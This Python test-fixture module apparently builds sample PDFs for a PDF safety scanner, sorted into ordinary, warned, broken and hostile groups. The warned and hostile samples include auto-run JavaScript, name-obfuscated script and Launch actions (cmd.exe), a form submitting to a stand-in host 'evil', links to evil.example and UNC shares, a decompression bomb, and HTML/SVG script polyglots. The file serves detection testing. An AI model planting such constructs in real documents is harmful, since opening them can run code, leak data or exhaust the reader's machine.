"""PDF files put together object by object."""

# one file of the collection in one line
from __future__ import annotations

import zlib


def pdf(*objects: str | bytes, trailer: str = "", version: str = "1.7") -> bytes:
    """Object 1 is the catalogue; the table at the end is right."""
    out = bytearray(f"%PDF-{version}\n%\xe2\xe3\xcf\xd3\n".encode("latin-1"))
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        content = body if isinstance(body, bytes) else body.encode("latin-1")
        out += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    return bytes(out) + (
        f"trailer\n<< /Size {len(places) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode(
            "latin-1"
        )
    )


def stream(data: bytes, about: str = "") -> bytes:
    return f"<< /Length {len(data)} {about} >>\nstream\n".encode() + data + b"\nendstream"


def packed(*objects: str, about: str = "/Type /ObjStm", filters: str = "/FlateDecode") -> bytes:
    """A stream of objects, numbered from 10."""
    places, bodies = "", ""
    for number, body in enumerate(objects, 10):
        places += f"{number} {len(bodies)} "
        bodies += body + " "
    data = zlib.compress((places + bodies).encode("latin-1"))
    if "ASCIIHex" in filters:
        data = data.hex().encode() + b">"
    return stream(data, f"{about} /N {len(objects)} /First {len(places)} /Filter {filters}")


PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
TEXT = stream(zlib.compress(b"BT /F1 12 Tf (Kinh gui Bo) Tj ET"), "/Filter /FlateDecode")


def letter(*more: str | bytes, catalogue: str = "", page: str = "", trailer: str = "") -> bytes:
    """One page; objects from 5 on are `more`."""
    root = f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>"
    return pdf(root, PAGES, PAGE.replace("/Contents", f"{page} /Contents"), TEXT, *more, trailer=trailer)


def linked(action: str) -> bytes:
    return letter(f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action} >>", page="/Annots [5 0 R]")


JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_NOISE = bytes(range(256)) * 40
ORDINARY: dict[str, tuple[str, bytes]] = {
    "a letter": ("a.pdf", letter()),
    "of an office program": (
        "a.pdf",
        letter(
            "<< /Type /StructTreeRoot /K [] >>",
            packed("<< /Type /StructElem /S /P >>", "<< /Type /Font /BaseFont /Arial >>"),
            catalogue="/OpenAction [3 0 R /XYZ null null 0] /Lang (vi-VN) /MarkInfo << /Marked true >>",
            trailer="/Info << /Title (\xfe\xff\0a) /Producer (Office \\(365\\)) >> /ID [<00ff> <00FF>]",
        ),
    ),
    "a link": ("a.pdf", linked("<< /S /URI /URI (https://moj.gov.vn/a?b=c) >>")),
    "a link to write to": ("a.pdf", linked("<< /Type /Action /S /URI /URI (mailto:a@example.vn) >>")),
    "a link within": ("a.pdf", linked("<< /S /GoTo /D [3 0 R /Fit] >>")),
    "a link whose address stands elsewhere": (
        "a.pdf",
        letter("<< /S /URI /URI 6 0 R >>", "(https://moj.gov.vn)"),
    ),
    "a thread of its own": ("a.pdf", linked("<< /S /Thread /D 0 >>")),
    "a link that is printed": (
        "a.pdf",
        letter("<< /Subtype /Link /F 4 /A << /S /URI /URI (https://moj.gov.vn) >> >>"),
    ),
    "the name of a file that is not fetched": ("a.pdf", letter("<< /Private << /F (a.ai) >> >>")),
    "opens at its first page": (
        "a.pdf",
        letter("<< /S /GoTo /D [3 0 R /Fit] >>", catalogue="/OpenAction 5 0 R"),
    ),
    "of a scanner": (
        "a.pdf",
        letter(
            stream(b"\xff\xd8\xff\xe0" + _NOISE + b"/JS /Launch (x)", "/Subtype /Image /Filter /DCTDecode"),
            stream(zlib.compress(_NOISE * 30), "/Type /XObject /Subtype /Image /Filter /FlateDecode"),
        ),
    ),
    "a form": (
        "a.pdf",
        letter("<< /FT /Tx /T (Ho ten) /Ff 1 /F 4 >>", catalogue="/AcroForm << /Fields [5 0 R] >>"),
    ),
    "signed": (
        "a.pdf",
        letter(f"<< /Type /Sig /Filter /Adobe.PPKLite /Contents <{'00' * 3000}> /ByteRange [0 1 2 3] >>"),
    ),
    "with its notes (XMP)": (
        "a.pdf",
        letter(stream(b'<?xpacket?><x:xmpmeta xmlns:x="adobe:ns:meta/"/>', "/Type /Metadata /Subtype /XML")),
    ),
    "changed and saved again": ("a.pdf", letter() + letter()[9:]),
    "with a table that is wrong": ("a.pdf", letter().replace(b"startxref\n", b"startxref\n9")),
    "with the mark of UTF-8 before it": ("a.pdf", b"\xef\xbb\xbf" + letter()),
    "with an empty line before it": ("a.pdf", b"\r\n" + letter()),
    "with blanks and a mark": ("a.pdf", b"\xef\xbb\xbf \t\r\n" + letter()),
    "with the rest of a block of the disk": ("a.pdf", letter() + bytes(5000)),
    "with many empty lines behind it": ("a.pdf", letter() + b"\r\n" * 3000),
    "with an end of file of DOS": ("a.pdf", letter() + b"\x1a" * 2500),
    "without its end": ("a.pdf", letter().replace(b"%%EOF\n", b"")),
    "without its end, with the rest of a block": ("a.pdf", letter().replace(b"%%EOF", b"") + bytes(5000)),
    "without its table": ("a.pdf", letter()[: letter().index(b"xref\n")]),
    "without its end, its pages in a stream of objects": (
        "a.pdf",
        pdf(
            "<< /Type /Catalog /Pages 10 0 R >>",
            packed("<< /Type /Pages /Kids [11 0 R] /Count 1 >>", "<< /Type /Page /Parent 10 0 R >>"),
        ).replace(b"%%EOF", b""),
    ),
    "whose title speaks of scripts": (
        "a.pdf",
        letter("<< /Title (Hoc \\(/JavaScript\\) va /JS, /Launch /EmbeddedFile) >>", trailer="/Info 5 0 R"),
    ),
    "with lines of the old Macintosh": (
        "a.pdf",
        pdf("<< /Type /Catalog >>").replace(b"endobj\n", b"endobj\r"),
    ),
}

#: name → (content, warning); all are kept.
WARNED: dict[str, tuple[bytes, str]] = {
    "a script": (letter(catalogue=f"/OpenAction {JS}"), "active"),
    "a script with a name in numbers": (
        letter(catalogue="/OpenAction << /S /J#61vaScript /#4aS (x) >>"),
        "active",
    ),
    "a program": (linked("<< /S /Launch /F (cmd.exe) >>"), "active"),
    "a program with a name in numbers": (linked("<< /S /L#61unch /F (cmd.exe) >>"), "active"),
    "a script in a stream of objects": (letter(packed(JS), catalogue="/OpenAction 10 0 R"), "active"),
    "a script in a stream in two coats": (
        letter(packed(JS, filters="[/ASCIIHexDecode /FlateDecode]"), catalogue="/OpenAction 10 0 R"),
        "active",
    ),
    "a script in a stream that hides its type": (letter(packed(JS, about="")), "active"),
    "a script in a stream with a false end": (
        letter(packed(JS, f"({'endstream ' * 9})").replace(b"stream\n", b"stream\n", 1)),
        "active",
    ),
    "a script in a remark": (letter().replace(b"xref\n", b"% (/JavaScript)\nxref\n", 1), "active"),
    "a script beside a text that is no object": (
        letter().replace(b"xref\n", b"obj (/JavaScript)\nxref\n", 1),
        "active",
    ),
    "a script in a text that never ends": (letter("(/JavaScript"), "active"),
    "a script inside a text": (letter("(7 0 obj << /S /Java#53cript >> endobj)"), "active"),
    "a script behind a remark": (letter(JS).replace(b"5 0 obj", b"5 0%x\nobj"), "active"),
    "a script inside a picture": (
        letter(stream(b"\xff\xd8 77 0 obj " + JS.encode() + b" endobj", "/Filter /DCTDecode")),
        "active",
    ),
    "a script of an older version": (letter(JS) + letter()[9:], "active"),
    "a script after each page": (letter(JS, page="/AA << /O 5 0 R >>"), "active"),
    "a form that sends itself": (linked("<< /S /SubmitForm /F (http://evil/) >>"), "active"),
    "an old kind of form (XFA)": (letter(catalogue="/AcroForm << /XFA 5 0 R /Fields [] >>"), "active"),
    "a file inside": (
        letter(stream(b"MZ", "/Type /EmbeddedFile"), catalogue="/Names << /EmbeddedFiles 5 0 R >>"),
        "embedded",
    ),
    "a file inside a stream of objects": (
        letter(packed("<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>")),
        "embedded",
    ),
    "a file pinned to a page": (letter("<< /Subtype /FileAttachment /FS 6 0 R >>"), "embedded"),
    "an address opened at once": (
        letter(catalogue="/OpenAction << /S /URI /URI (https://evil.example/) >>"),
        "external",
    ),
    "an address opened at once, elsewhere": (
        letter("<< /S /URI /URI (https://evil.example/) >>", catalogue="/OpenAction 5 0 R"),
        "external",
    ),
    "an address opened with a page": (
        letter("<< /S /URI /URI (https://evil.example/) >>", page="/AA << /O 5 0 R >>"),
        "external",
    ),
    "an address opened after a jump": (
        letter(
            "<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
            "<< /S /URI /URI (https://evil.example/) >>",
            catalogue="/OpenAction 5 0 R",
        ),
        "external",
    ),
    "a link to a share": (linked("<< /S /URI /URI (file://evil/share) >>"), "external"),
    "another file on a share": (
        letter(catalogue="/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>"),
        "external",
    ),
    "a thread of another file": (linked("<< /S /Thread /F (a.pdf) /D 0 >>"), "external"),
    "a film on a share": (
        letter(
            "<< /Type /Annot /Subtype /Movie /Movie << /F (\\\\\\\\evil\\\\a.avi) >> /A true >>",
            page="/Annots [5 0 R]",
        ),
        "external",
    ),
    "a picture's better copy on a share (OPI)": (
        letter(stream(b"", "/Subtype /Image /OPI << /2.0 << /F (\\\\\\\\evil\\\\a) >> >>")),
        "external",
    ),
    "a file on a share, of whatever use": (
        letter("<< /Type /Filespec /F (a.tif) /UF <feff005c005c006500760069006c> >>"),
        "external",
    ),
    "a file of the web, of whatever use": (letter("<< /Any << /F (http://evil/a.icc) >> >>"), "external"),
    "a file on a share whose name stands elsewhere": (
        letter("<< /Any << /F 6 0 R >> >>", "(\\\\\\\\evil\\\\a.tif)"),
        "external",
    ),
    "a link to a share whose address stands elsewhere": (
        letter("<< /S /URI /URI 6 0 R >>", "(file://evil/share)"),
        "external",
    ),
    "a model in space with a script": (
        letter(stream(b"x", "/Type /3D /Subtype /U3D /OnInstantiate 6 0 R"), stream(b"host.x()")),
        "active",
    ),
    "content elsewhere": (letter("<< /Length 0 /F (http://evil/a) >>\nstream\n\nendstream"), "external"),
    "a password": (letter("<< /Filter /Standard /V 4 >>", trailer="/Encrypt 5 0 R"), "encrypted"),
    "a password and streams of objects": (
        letter(
            "<< /Filter /Standard /V 4 >>",
            stream(_NOISE, "/Type /ObjStm /N 1 /First 4"),
            trailer="/Encrypt 5 0 R",
        ),
        "unread",
    ),
    "a stream of objects that cannot be unpacked": (
        letter(stream(b"abc", "/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode")),
        "unread",
    ),
    "a stream of objects cut short": (letter(packed(JS).replace(b"x\x9c", b"y\x9c", 1)), "unread"),
    "a bomb of objects": (letter(packed("(" + " " * 70_000_000 + ")")), "unread"),
    "boxes in boxes": (letter("[" * 5000 + "]" * 5000), "unread"),
}

_TWO_PAGES = letter("<< /Type /Page /Parent 2 0 R >>").replace(
    b"/Kids [3 0 R] /Count 1", b"/Kids [3 0 R 5 0 R] /Count 2"
)
#: Not all of it is there, or something else is.
BROKEN: dict[str, tuple[bytes, str]] = {
    "half of it": (letter()[: len(letter()) // 3], "damaged"),
    "one of two pages": (_TWO_PAGES[: _TWO_PAGES.index(b"5 0 obj")], "damaged"),
    "no page at all": (pdf("<< /Type /Catalog >>").replace(b"%%EOF", b""), "damaged"),
    "another thing behind it": (letter() + b"x" * 3000, "damaged"),
    "a line of a server before it": (b"HTTP/1.1 200 OK\r\n\r\n" + letter(), "other_type"),
    "a script before it": (b"#!/bin/sh\n" + letter(), "other_type"),
    "zeros before it": (bytes(9) + letter(), "other_type"),
    "blanks that have no end before it": (b" " * 5000 + letter(), "other_type"),
    "a web page behind a mark": (b"\xef\xbb\xbf<html>" + letter(), "other_type"),
}

HOSTILE: dict[str, bytes] = {
    "a web page inside": letter().replace(b"%\xe2\xe3\xcf\xd3", b"<html><script>alert(1)</script></html>"),
    "a drawing inside": letter().replace(b"%\xe2\xe3\xcf\xd3", b"%<SVG onload=alert(1)>"),
}
